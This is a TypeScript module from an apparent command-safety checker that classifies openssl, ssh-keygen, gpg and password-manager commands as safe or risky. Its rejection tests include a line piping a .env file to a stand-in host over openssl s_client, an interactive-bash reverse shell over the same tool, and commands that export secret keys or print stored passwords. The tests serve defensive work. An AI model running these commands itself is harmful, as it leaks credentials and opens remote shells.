import { say } from '../../../../say';
import { type Doing, looksHere, reveals, sends } from './doings';
import type { Family } from './family';
import { tool } from './tool';

/** What it is given comes from a program: with a shell in the same call, that shell may answer to the other end. */
const connects: Doing = {
  name: 'connects',
  run({ shell, context, invocation }) {
    if (context.stdin.present && context.stdin.text === undefined) shell.connections.push(invocation.span);
  },
};

/** Keys, certificates and checksums. */
export const crypto: readonly Family[] = [
  tool({
    programs: ['openssl'],
    commands: {
      rand: { options: { flag: '-hex -base64', writes: '-out' }, reading: { noClusters: true }, operands: 'data' },
      'dgst sha1 sha224 sha256 sha384 sha512 md5': {
        options: { flag: '-sha1 -sha224 -sha256 -sha384 -sha512 -md5 -hex -r -c -binary', writes: '-out' },
        reading: { noClusters: true },
        operands: 'read',
      },
      'x509 req crl asn1parse verify': {
        options: {
          flag: '-noout -text -subject -issuer -dates -enddate -startdate -serial -fingerprint -sha256 -pubkey -purpose -ocsp_uri -email -hash -checkhost',
          value: '-inform -outform -nameopt -checkend',
          reads: '-in -CAfile -untrusted',
        },
        reading: { noClusters: true },
        operands: 'read',
      },
      'version ciphers list help errstr': {
        options: { flag: '-a -v -V -s -tls1_2 -tls1_3' },
        reading: { noClusters: true },
        operands: 'data',
      },
      's_client s_server s_time ocsp': { does: [sends('another machine'), connects] },
    },
    match: [
      'openssl rand -hex -base64 -out x.bin 16',
      'openssl dgst -sha1 -sha224 -sha256 -sha384 -sha512 -md5 -hex -r -c -binary -out x.txt a.txt; openssl sha1 a; openssl sha224 a; openssl sha256 a; openssl sha384 a; openssl sha512 a; openssl md5 a',
      'openssl x509 -noout -text -subject -issuer -dates -enddate -startdate -serial -fingerprint -sha256 -pubkey -purpose -ocsp_uri -email -hash -checkhost -inform PEM -outform PEM -nameopt x -checkend 9 -in a.crt -CAfile a.crt -untrusted a.crt',
      'openssl req -noout -text -in a.csr; openssl crl -noout -in a.crl; openssl asn1parse -in a.crt; openssl verify a.crt',
      'openssl version -a; openssl ciphers -v -V -s -tls1_2 -tls1_3; openssl list x; openssl help; openssl errstr 1',
    ],
    notMatch: [
      'openssl s_client -connect x.example:443',
      'cat .env | openssl s_client -connect x.example:443',
      'bash -i 2>&1 | openssl s_client -connect x.example:443',
      'openssl s_server -accept 1',
      'openssl s_time -connect x',
      'openssl ocsp -url x',
      'openssl rsa -in key.pem',
      'openssl enc -aes-256-cbc -in a -out a',
      'openssl x509 -in server.key',
      'openssl dgst -engine x a',
      'openssl rand -out /srv/x 1',
      'openssl genrsa -out .git/x 2048',
    ],
  }),
  tool({
    programs: ['ssh-keygen'],
    options: { flag: '-l -v -B -E', value: '-F', reads: '-f' },
    operands: 'none',
    // Without `-l` or `-F` it makes keys, or changes them.
    does: [
      {
        name: 'only tells',
        run: (at) => {
          if (!at.options.some(({ name }) => name === '-l' || name === '-F'))
            at.shell.doubt(
              'command.changes',
              say('{0} with these words makes or changes keys', at.name),
              at.invocation.span,
            );
        },
      },
    ],
    match: ['ssh-keygen -l -v -B -E -f certs/host.pub', 'ssh-keygen -lf a.pub', 'ssh-keygen -F example.com -f known'],
    notMatch: [
      'ssh-keygen -t ed25519',
      'ssh-keygen -y -f id_rsa',
      'ssh-keygen -R x',
      'ssh-keygen -f a.pub',
      'ssh-keygen -lf ~/.ssh/id_rsa',
    ],
  }),
  tool({
    programs: ['gpg', 'gpg2'],
    options: {
      flag: '--list-keys -k --list-public-keys --fingerprint --list-packets --batch --no-tty --with-colons --quiet -q --armor',
      value: '--keyid-format',
    },
    operands: 'data',
    does: [
      looksHere('look'),
      {
        name: 'only lists',
        run: (at) => {
          if (!at.options.some(({ name }) => /^(?:--list-keys|-k|--list-public-keys|--fingerprint)$/.test(name)))
            at.shell.doubt(
              'command.unknown',
              say('what {0} does with these words is not known', at.name),
              at.invocation.span,
            );
        },
      },
    ],
    match: [
      'gpg --list-keys -k --list-public-keys --fingerprint --batch --no-tty --with-colons --quiet -q --armor --keyid-format=long',
      'gpg -k --list-packets',
    ],
    notMatch: ['gpg --export-secret-keys', 'gpg -d a.gpg', 'gpg --recv-keys x', 'gpg --delete-keys x', 'gpg a.gpg'],
  }),
  tool({
    programs: ['pass', 'security', 'secret-tool', 'op', 'bw'],
    does: [reveals('stored passwords')],
    match: [],
    notMatch: [
      'pass show x',
      'security find-generic-password -w',
      'secret-tool lookup a b',
      'op read x',
      'bw get password x',
    ],
  }),
];
